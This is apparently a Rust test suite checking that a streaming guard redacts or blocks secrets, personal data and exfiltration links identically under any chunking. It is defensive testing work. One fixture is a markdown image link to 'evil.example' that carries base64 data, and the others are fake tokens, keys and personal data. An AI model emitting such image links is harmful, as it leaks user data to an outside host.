//! The streaming output guard equals the non-streamed result for every chunking, and never
//! emits a byte of a finding before its action is decided.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use portcullis_guard::action::{Action, ActionTable};
use portcullis_guard::gen;
use portcullis_guard::output::ExfilScanner;
use portcullis_guard::stream::{guard_text, StreamConfig, StreamGuard, StreamStep, TextScanner};
use portcullis_guard::{Detector, FindingKind};
use proptest::prelude::*;
use std::sync::OnceLock;

fn det() -> &'static Detector {
    static D: OnceLock<Detector> = OnceLock::new();
    D.get_or_init(|| Detector::new().expect("detector builds"))
}

fn redact_all() -> ActionTable {
    ActionTable::uniform(Action::Redact)
}

/// Streams `text` cut at `cuts` (sorted byte positions on char boundaries) and checks
/// each intermediate output is a prefix of the reference. Returns the concatenation.
fn run<S: TextScanner>(
    scanner: S,
    actions: &ActionTable,
    cfg: StreamConfig,
    text: &str,
    cuts: &[usize],
    reference: &StreamStep,
) -> (StreamStep, StreamGuard<S>) {
    let mut g = StreamGuard::with_config(scanner, actions.clone(), cfg);
    let mut all = StreamStep::default();
    let mut prev = 0;
    let add = |all: &mut StreamStep, s: StreamStep| {
        all.emit.push_str(&s.emit);
        all.findings.extend(s.findings);
        if s.blocked.is_some() {
            assert!(all.blocked.is_none(), "blocked twice");
            all.blocked = s.blocked;
        }
        assert!(
            reference.emit.starts_with(&all.emit),
            "emitted text diverges from the reference:\n got {:?}\nwant {:?}",
            all.emit,
            reference.emit
        );
    };
    for &c in cuts.iter().chain(std::iter::once(&text.len())) {
        let s = g.push(&text[prev..c]);
        add(&mut all, s);
        prev = c;
    }
    let s = g.finish();
    add(&mut all, s);
    (all, g)
}

fn check<S: TextScanner + Copy>(scanner: S, actions: &ActionTable, text: &str, cuts: &[usize]) {
    check_cfg(scanner, actions, StreamConfig::default(), text, cuts);
}

fn check_cfg<S: TextScanner + Copy>(
    scanner: S,
    actions: &ActionTable,
    cfg: StreamConfig,
    text: &str,
    cuts: &[usize],
) {
    let reference = guard_text(&scanner, actions, text);
    if REQUIRE_FINDINGS.with(|r| r.get()) {
        assert!(
            !reference.findings.is_empty(),
            "test text without findings: {text:?}"
        );
    }
    let (got, g) = run(scanner, actions, cfg, text, cuts, &reference);
    assert_eq!(got.emit, reference.emit, "emit differs for cuts {cuts:?}");
    assert_eq!(
        got.findings, reference.findings,
        "findings differ for cuts {cuts:?}"
    );
    assert_eq!(
        got.blocked, reference.blocked,
        "verdict differs for cuts {cuts:?}"
    );
    let st = g.stats();
    assert!(st.all_checked(), "{st:?}");
    assert_eq!(st.late_findings, 0, "{st:?}");
    // No raw secret in the output when secrets are rewritten or blocked.
    if actions.get(FindingKind::Secret) != Action::Log {
        for f in reference
            .findings
            .iter()
            .filter(|f| f.kind == FindingKind::Secret)
        {
            let raw = &text[f.start..f.end];
            if raw.len() >= 16 {
                assert!(!got.emit.contains(raw), "secret {raw:?} leaked");
            }
        }
    }
}

thread_local! {
    /// Fixed texts must exercise findings; generated ones may not have any.
    static REQUIRE_FINDINGS: std::cell::Cell<bool> = const { std::cell::Cell::new(true) };
}

fn filler(n: usize) -> String {
    let words = [
        "lorem ",
        "ipsum ",
        "dolor ",
        "sit ",
        "amet, ",
        "consectetur\n",
        "é ",
        "日本 ",
    ];
    let mut s = String::new();
    let mut i = 0;
    while s.len() < n {
        s.push_str(words[i % words.len()]);
        i += 1;
    }
    s
}

/// `text` in pieces of about `k` bytes (char boundaries respected).
fn pieces(text: &str, k: usize) -> Vec<&str> {
    let mut cuts = vec![0];
    cuts.extend(char_cuts(text, k));
    cuts.push(text.len());
    cuts.windows(2).map(|w| &text[w[0]..w[1]]).collect()
}

fn char_cuts(text: &str, every: usize) -> Vec<usize> {
    (1..text.len())
        .filter(|i| text.is_char_boundary(*i) && i % every == 0)
        .collect()
}

const GH: &str = "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5";
const PEM: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI\n2pHVKB2hXTmHNLh9A2MSl3cmCd1rkLy5JRvMxOSXPk7sLhZRAMM0oX9iJ0Ft2nDK\n-----END RSA PRIVATE KEY-----";

#[test]
fn two_chunks_every_position() {
    let texts = [
        format!(
            "{}token {GH} and mail jane.doe@example.com, call +44 20 7946 0958.{}",
            filler(700),
            filler(300)
        ),
        format!("{}x {GH}", filler(505)),
        format!("{GH} at start, card 4111 1111 1111 1111 {}", filler(900)),
        format!(
            "{}\n{PEM}\nafter the key a@b.io {}",
            filler(600),
            filler(100)
        ),
    ];
    for actions in [
        redact_all(),
        ActionTable::uniform(Action::Log),
        ActionTable::output_defaults().with(FindingKind::Email, Action::Block),
        ActionTable::uniform(Action::Redact).with(FindingKind::Secret, Action::Block),
    ] {
        for t in &texts {
            for c in char_cuts(t, 1) {
                check(det(), &actions, t, &[c]);
            }
        }
    }
}

#[test]
fn tiny_deltas_every_size() {
    let t = format!(
        "{}Here: AKIAIOSFODNN7EXAMPLE / {GH}\nSSN 123-45-6789, ip 192.168.10.20.\n{PEM}\n{}",
        filler(200),
        filler(700)
    );
    for k in 1..=48 {
        check(det(), &redact_all(), &t, &char_cuts(&t, k));
    }
    check(
        det(),
        &ActionTable::uniform(Action::Log),
        &t,
        &char_cuts(&t, 3),
    );
}

#[test]
fn private_key_modes() {
    let body: String = (0..40)
        .map(|i| format!("MIIEow{i:03}AKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI\n"))
        .collect();
    let key =
        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{body}-----END OPENSSH PRIVATE KEY-----");
    let closed = format!("intro {}\n{key}\ntail {}", filler(100), filler(600));
    let open = format!("intro {}\n-----BEGIN PRIVATE KEY-----\n{body}", filler(50));
    for text in [&closed, &open] {
        for actions in [
            redact_all(),
            ActionTable::uniform(Action::Log),
            redact_all().with(FindingKind::Secret, Action::Block),
        ] {
            for k in [1, 2, 7, 16, 33, 100, 1000] {
                check(det(), &actions, text, &char_cuts(text, k));
            }
        }
    }
    // Redaction: the body never leaks and nothing is held back while it streams.
    let mut g = StreamGuard::new(det(), redact_all());
    let mut out = String::new();
    for c in pieces(&closed, 10) {
        out += &g.push(c).emit;
    }
    out += &g.finish().emit;
    assert!(out.contains("[REDACTED:SECRET]"));
    assert!(!out.contains("MIIEow"));
    assert!(
        g.stats().max_held_back <= 512 + 64 + 10 + 64,
        "{:?}",
        g.stats()
    );
    // Block: verdict at the BEGIN line.
    let r = guard_text(
        det(),
        &redact_all().with(FindingKind::Secret, Action::Block),
        &closed,
    );
    let b = r.blocked.unwrap();
    assert_eq!(
        &closed[b.start..b.end],
        "-----BEGIN OPENSSH PRIVATE KEY-----"
    );
    assert!(!r.emit.contains("BEGIN"));
}

#[test]
fn hold_back_is_bounded_and_counters() {
    let t = filler(4000);
    let mut g = StreamGuard::new(det(), redact_all());
    let mut out = String::new();
    for c in pieces(&t, 13) {
        out += &g.push(c).emit;
        assert!(g.held_back() <= 512 + 64 + 13 * 2, "{}", g.held_back());
    }
    let st = g.stats();
    assert!(st.chunks > 0 && st.chunks_checked < st.chunks);
    g.finish();
    assert!(g.stats().all_checked());
    assert!(
        g.stats().scans < g.stats().chunks,
        "scans are amortized: {:?}",
        g.stats()
    );
}

#[test]
fn block_ends_the_stream() {
    let t = format!("{}secret {GH} more {}", filler(600), filler(600));
    let actions = redact_all().with(FindingKind::Secret, Action::Block);
    let mut g = StreamGuard::new(det(), actions.clone());
    let mut blocked = None;
    let mut out = String::new();
    for c in pieces(&t, 5) {
        let s = g.push(c);
        out += &s.emit;
        if s.blocked.is_some() {
            blocked = s.blocked;
        }
    }
    assert!(g.is_blocked());
    let b = blocked.unwrap();
    assert_eq!(&t[b.start..b.end], GH);
    assert_eq!(out, t[..b.start]);
    assert_eq!(g.push("more").emit, "");
    assert_eq!(g.finish(), StreamStep::default());
}

#[test]
fn long_exfil_image_is_held_until_closed() {
    let exfil = ExfilScanner::new(["cdn.example.com"]).unwrap();
    let data: String = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODk".repeat(30);
    let t = format!(
        "{}See ![chart](https://evil.example/p.png?d={data}) and ![ok](https://cdn.example.com/a.png?v=3) {}",
        filler(300),
        filler(700)
    );
    let scanner = (det(), &exfil);
    let r = guard_text(&scanner, &redact_all(), &t);
    assert_eq!(
        r.findings
            .iter()
            .filter(|f| f.kind == FindingKind::ExfilLink)
            .count(),
        1
    );
    for k in [1, 4, 17, 40, 333] {
        check(scanner, &redact_all(), &t, &char_cuts(&t, k));
    }
}

#[test]
fn small_config_still_exact() {
    let cfg = StreamConfig {
        lookahead: 300,
        context: 300,
        step: 1,
        max_hold: 4096,
    };
    let t = format!("{}{GH} x@y.org {}", filler(350), filler(50));
    for c in char_cuts(&t, 1) {
        check_cfg(det(), &redact_all(), cfg, &t, &[c]);
    }
}

fn gen_text(seed: u64, n: usize) -> String {
    gen::generate(seed, n)
        .into_iter()
        .map(|r| r.text)
        .collect::<Vec<_>>()
        .join("\n")
}

fn actions_from(bits: u64) -> ActionTable {
    let opts = [
        Action::Redact,
        Action::Log,
        Action::Pseudonymize,
        Action::Block,
    ];
    let mut t = ActionTable::uniform(Action::Log);
    for (i, k) in FindingKind::ALL.into_iter().enumerate() {
        // Block rarely, so most runs go to the end.
        let a = opts[((bits >> (2 * i)) & 3) as usize];
        let a = if a == Action::Block && !(bits >> 40).is_multiple_of(4) {
            Action::Redact
        } else {
            a
        };
        t.set(k, a);
    }
    t
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn random_splits_equal_whole(seed in any::<u64>(), n in 4usize..24, bits in any::<u64>(),
                                 cuts in proptest::collection::vec(any::<prop::sample::Index>(), 1..200)) {
        let text = gen_text(seed, n);
        let mut cs: Vec<usize> = cuts.iter().map(|i| i.index(text.len().max(1))).filter(|&i| i > 0 && text.is_char_boundary(i)).collect();
        cs.sort_unstable();
        cs.dedup();
        REQUIRE_FINDINGS.with(|r| r.set(false));
        check(det(), &actions_from(bits), &text, &cs);
    }

    #[test]
    fn small_deltas_equal_whole(seed in any::<u64>(), n in 4usize..24, k in 1usize..40) {
        let text = gen_text(seed, n);
        REQUIRE_FINDINGS.with(|r| r.set(false));
        check(det(), &redact_all(), &text, &char_cuts(&text, k));
    }
}

/// The property is not vacuous: with a window far below the span lengths, some split
/// changes the result (and the guard counts it).
#[test]
fn too_small_window_breaks_equality() {
    let cfg = StreamConfig {
        lookahead: 8,
        context: 0,
        step: 1,
        max_hold: 0,
    };
    let t = format!("{}{GH} x@y.org {}", filler(100), filler(50));
    let reference = guard_text(det(), &redact_all(), &t);
    assert_eq!(reference.findings.len(), 2);
    let mut differs = 0;
    for c in char_cuts(&t, 1) {
        let mut g = StreamGuard::with_config(det(), redact_all(), cfg);
        let mut out = g.push(&t[..c]).emit;
        out += &g.push(&t[c..]).emit;
        out += &g.finish().emit;
        if out != reference.emit {
            differs += 1;
        }
    }
    assert!(differs > 0);
}
